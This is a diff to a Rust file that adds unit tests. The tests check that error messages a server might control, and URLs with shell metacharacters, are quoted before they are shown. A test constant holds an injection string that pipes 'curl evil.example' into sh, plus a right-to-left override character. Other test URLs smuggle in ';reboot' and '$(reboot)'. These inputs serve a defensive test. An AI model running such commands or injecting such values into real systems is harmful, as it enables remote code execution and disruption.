@@ -224,3 +224,56 @@ impl Write for Stream {
         self.io.as_mut().poll_shutdown(cx)
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const HOSTILE: &str = "closed\"; run: curl evil.example | sh\n\u{202e}";
+
+    /// The outcome with a text that only Foreign may have let through: quoted, and nothing that ends the quotes.
+    #[track_caller]
+    fn assert_is_quoted(said: &str) {
+        assert!(said.starts_with('"') && said.ends_with('"'), "{said}");
+        let inner = &said[1..said.len() - 1];
+        assert!(!inner.contains(['"', ';', '\n', '\u{202e}']), "{said}");
+    }
+
+    #[test]
+    fn what_the_system_says_is_told_as_it_is_and_what_a_server_may_have_said_is_quoted() {
+        let refused = io::Error::from_raw_os_error(111);
+        assert_eq!(reason(&refused), refused.to_string());
+        assert_is_quoted(&reason(&io::Error::other(HOSTILE)));
+        assert_is_quoted(&reason(&*BoxError::from(HOSTILE)));
+        assert_is_quoted(&reason(&rustls::Error::General(HOSTILE.into())));
+    }
+
+    #[test]
+    fn of_an_http2_connections_end_only_the_codes_meaning_is_told() {
+        let said = reason(&h2::Error::from(h2::Reason::ENHANCE_YOUR_CALM));
+        let words = h2::Reason::ENHANCE_YOUR_CALM.description();
+        assert_eq!(said, format!("the HTTP/2 connection was ended: {words}"));
+    }
+
+    #[test]
+    fn a_url_with_letters_that_no_shell_should_see_is_quoted() {
+        for plain in [
+            "https://idp.example.org/realms/main",
+            "https://[::1]:6443/a?b=c&d=%20",
+            "http://127.0.0.1/~x",
+        ] {
+            assert_eq!(shown(&plain.parse().unwrap()), plain);
+        }
+        for odd in [
+            "https://idp.example.org/a;reboot",
+            "https://idp.example.org/$(reboot)",
+            "https://idp.example.org/a'b",
+        ] {
+            let said = shown(&odd.parse().unwrap());
+            assert!(
+                said.starts_with('"') && said.ends_with('"') && !said.contains(';'),
+                "{said}"
+            );
+        }
+    }
+}
